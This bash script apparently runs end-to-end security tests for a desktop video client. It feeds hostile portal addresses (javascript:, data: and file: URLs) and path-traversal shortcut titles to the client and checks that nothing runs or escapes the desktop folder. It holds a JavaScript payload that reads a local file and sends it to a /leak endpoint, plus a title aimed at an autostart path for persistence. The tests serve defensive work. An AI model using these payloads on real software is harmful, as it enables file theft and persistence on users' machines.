#!/usr/bin/env bash
# A server configuration whose portal address is script, inline data or a
# local file must not run anything or read anything: the portal never sees the
# secret a script would send it, and the library still comes from the fixed
# portal address. A page's shortcut titles that climb out of the desktop folder,
# name another folder, run long or are empty leave shortcuts only on the
# desktop, a frame of another origin makes none, and a shortcut argument that reads as a Qt option still reaches the
# client. Usage: hostile_config_test.sh BUILD_DIR OUT_DIR
set -euo pipefail
E2E_BUILD=$1 E2E_OUT=$2
source "$(dirname "$0")/lib.sh"

e2e_start_display
run_case() {
  local name=$1 address=$2 stored=$3
  E2E_CASE=$name
  e2e_private_home
  local secret; secret=secret-$RANDOM$RANDOM
  echo "$secret" >"$HOME/marker"
  address=${address//MARKER/$HOME\/marker}
  e2e_gbk_config "$e2e_tmp/zel.txt" '[澜映软件配置]' "域名=$address" '名称=澜映影视' '[软件更新配置]' '版本=1.0'
  # The settings ask no update question; an earlier run may have stored the same bad address.
  sed -i 's/^update=.*/update=False/' "$APPDIR/zelskin/Config.ini"
  [ "$stored" = stored ] && cp "$e2e_tmp/zel.txt" "$APPDIR/zelhe.db"
  e2e_start_portal --config "$e2e_tmp/zel.txt"
  e2e_start_client
  e2e_portal_saw 60 'GET /tcab/ ' || e2e_fail "$name: the library did not come from the fixed portal address"
  sleep 2
  ! grep -q "$secret" "$PORTAL_LOG" || e2e_fail "$name: the portal received the secret"
  e2e_client_alive || e2e_fail "$name: the client ended"
  e2e_shot "hostile-$name"
  e2e_stop "$CLIENT_PID" "$PORTAL_PID"
  echo "ok: $name"
}

leak="fetch('file://MARKER').then(r=>r.text()).then(t=>fetch('PORTAL/leak?'+t))"
for stored in fresh stored; do
  run_case "javascript-$stored" "javascript:${leak//PORTAL/\{\{PORTAL\}\}};//" "$stored"
  run_case "data-$stored" "data:text/html,<script>${leak//PORTAL/\{\{PORTAL\}\}}</script>" "$stored"
  run_case "file-$stored" "file:///etc" "$stored"
done

echo "hostile shortcut titles from a page"
E2E_CASE=titles
e2e_private_home
sed -i 's/^update=.*/update=False/' "$APPDIR/zelskin/Config.ini"
absolute=/tmp/fluvane-absolute-$RANDOM$RANDOM
long=$(printf 'x%.0s' $(seq 240))
# The engine hands titles over as written, so "%00" stays three characters:
# control characters and NUL are the shell service's own tests.
titles=("../escaped" "../.config/autostart/persist" "$absolute" "$long" "")
# The library page: one 40-pixel link per title, from the top of the pane.
site=$e2e_tmp/site
cp -r "$e2e_source/portal/site" "$site"
# Below them, the same command from a frame of the portal's origin and from a
# frame of another origin (localhost is not 127.0.0.1): only the first counts.
style='<style>body{margin:0;background:#222}a{display:block;height:40px;color:#fff}iframe{display:block;border:0;width:100%;height:40px}</style>'
for origin in same other; do
  echo "<!DOCTYPE html><meta charset=\"utf-8\">$style<a href=\"dddisk://$origin-origin@@@/tcab/\">$origin</a>" >"$site/tcab/frame-$origin.html"
done
e2e_gbk_config "$e2e_tmp/zel.txt" '[澜映软件配置]' '域名={{PORTAL}}' '名称=澜映影视' '[软件更新配置]' '版本=1.0'
e2e_start_portal --config "$e2e_tmp/zel.txt" --root "$site"
{
  echo "<!DOCTYPE html><meta charset=\"utf-8\"><title>片库</title>$style"
  for title in "${titles[@]}"; do echo "<a href=\"dddisk://$title@@@/tcab/\">$title</a>"; done
  echo "<iframe src=\"/tcab/frame-same.html\"></iframe>"
  echo "<iframe src=\"${PORTAL_URL/127.0.0.1/localhost}/tcab/frame-other.html\"></iframe>"
} >"$site/tcab/index.html"
touch "$e2e_tmp/before"
e2e_start_client
e2e_portal_saw 60 'GET /tcab/ ' || e2e_fail "titles: the library was never requested"
sleep 2
for i in $(seq 0 $((${#titles[@]} + 1))); do
  e2e_click 400 $((93 + 40 * i + 20))
  sleep 0.7
done
shortcuts() { find "$XDG_DESKTOP_DIR" -name '*.desktop' | wc -l; }
e2e_wait_for 10 eval '[ "$(shortcuts)" -eq $((${#titles[@]} + 1)) ]' ||
  e2e_fail "titles: $(shortcuts) shortcuts on the desktop for ${#titles[@]} links and a frame: $(ls "$XDG_DESKTOP_DIR")"
[ -e "$XDG_DESKTOP_DIR/same-origin.desktop" ] || e2e_fail "titles: the portal's own frame made no shortcut"
[ ! -e "$XDG_DESKTOP_DIR/other-origin.desktop" ] || e2e_fail "titles: a frame of another origin made a shortcut"
e2e_shot titles
for entry in "$XDG_DESKTOP_DIR"/*; do
  desktop-file-validate "$entry" || e2e_fail "titles: desktop-file-validate rejects $entry"
done
elsewhere=$(find "$HOME" /tmp -xdev -newer "$e2e_tmp/before" -name '*.desktop' -not -path "$XDG_DESKTOP_DIR/*" 2>/dev/null)
[ -z "$elsewhere" ] || e2e_fail "titles: shortcuts outside the desktop folder: $elsewhere"
[ ! -e "$absolute.desktop" ] || e2e_fail "titles: an absolute title wrote $absolute.desktop"
echo "ok: titles"

echo "a shortcut argument that reads as a Qt option starts the client on its page"
# A title beginning with "\" scrambles to an argument beginning with "-"; this
# one reads "-stylesheet=none…", which Qt would take for its own option.
e2e_stop "$CLIENT_PID"
rot47() { tr '!-~' 'P-~!-O'; }
seen=$(wc -l <"$PORTAL_LOG")
e2e_start_client "-stylesheet=none$(printf '%s' "#@@$PORTAL_URL/tcab/" | rot47)"
since_start() { tail -n +$((seen + 1)) "$PORTAL_LOG"; }
e2e_wait_for 60 eval 'since_start | grep -q "GET /tcab/ "' || e2e_fail "dashed: the shortcut's page was not loaded"
! since_start | grep -q 'GET /zel/zel.txt' || e2e_fail "dashed: the argument was lost: a normal start fetched the configuration"
echo "ok: a shortcut argument that reads as a Qt option"
